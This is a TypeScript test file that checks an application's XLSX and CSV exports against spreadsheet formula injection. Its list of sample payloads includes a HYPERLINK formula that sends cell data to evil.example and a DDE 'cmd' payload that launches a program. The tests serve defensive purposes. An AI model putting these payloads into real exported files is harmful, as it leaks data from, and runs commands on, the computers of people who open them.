import ExcelJS from "exceljs";
import { afterAll, describe, expect, it } from "vitest";
import { safeCsvCell } from "../core/csv";
import { saveRows } from "../server/test-support/seed";
import { createTestApp, signUpUser } from "../server/test-support/test-app";

/** Descriptions a spreadsheet could run as formulas (TAB and CR leads are trimmed by the import, tested too). */
const DANGEROUS = [
  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  "=1+2",
  "+44 20 7946 0000",
  "-2+3",
  "@SUM(1,2)",
  "\t=1+2",
  "\r=1+2",
  "  =cmd|' /C calc'!A0",
];

const t = await createTestApp();
afterAll(() => t.close());

describe("formula injection in exports (raw cells; bench:reliability opens them with ssconvert)", () => {
  it("GET /api/export/xlsx: no cell is a formula, dangerous texts are escaped with an apostrophe, amounts are numbers", async () => {
    const user = await signUpUser(t.app);
    await saveRows(
      t.app,
      user.cookie,
      DANGEROUS.map((description, i) => ({
        date: `2025-04-${String(i + 1).padStart(2, "0")}`,
        description,
        amount: `-${i + 1}.25`,
      })),
    );
    const res = await t.app.inject({ method: "GET", url: "/api/export/xlsx", headers: { cookie: user.cookie } });
    expect(res.statusCode, res.body.slice(0, 200)).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);

    const texts: string[] = [];
    workbook.eachSheet((sheet) => {
      sheet.eachRow((row) => {
        row.eachCell((cell) => {
          expect(cell.type, `${sheet.name}!${cell.address} is a formula`).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula, `${sheet.name}!${cell.address}`).toBeFalsy();
          if (typeof cell.value === "string") texts.push(cell.value);
        });
      });
    });
    for (const text of texts) expect(/^[=+\-@\t\r]/.test(text), `unescaped cell: ${JSON.stringify(text)}`).toBe(false);
    for (const d of DANGEROUS) {
      const trimmed = d.trim();
      expect(
        texts.some((x) => x === `'${trimmed}` || x === `'${d}`),
        `escaped ${JSON.stringify(d)}`,
      ).toBe(true);
    }

    const sheet = workbook.getWorksheet("Transactions");
    expect(sheet).toBeDefined();
    const header = (sheet!.getRow(1).values as unknown[]).map(String);
    const amountCol = header.findIndex((h) => /amount/i.test(h));
    expect(amountCol).toBeGreaterThan(0);
    for (let r = 2; r <= sheet!.rowCount; r++) {
      expect(typeof sheet!.getRow(r).getCell(amountCol).value, `amount in row ${r}`).toBe("number");
    }
  });

  it("core's CSV cell rule escapes every dangerous lead", () => {
    for (const d of DANGEROUS) expect(safeCsvCell(d).replace(/^"/, "").startsWith("'")).toBe(true);
  });
});
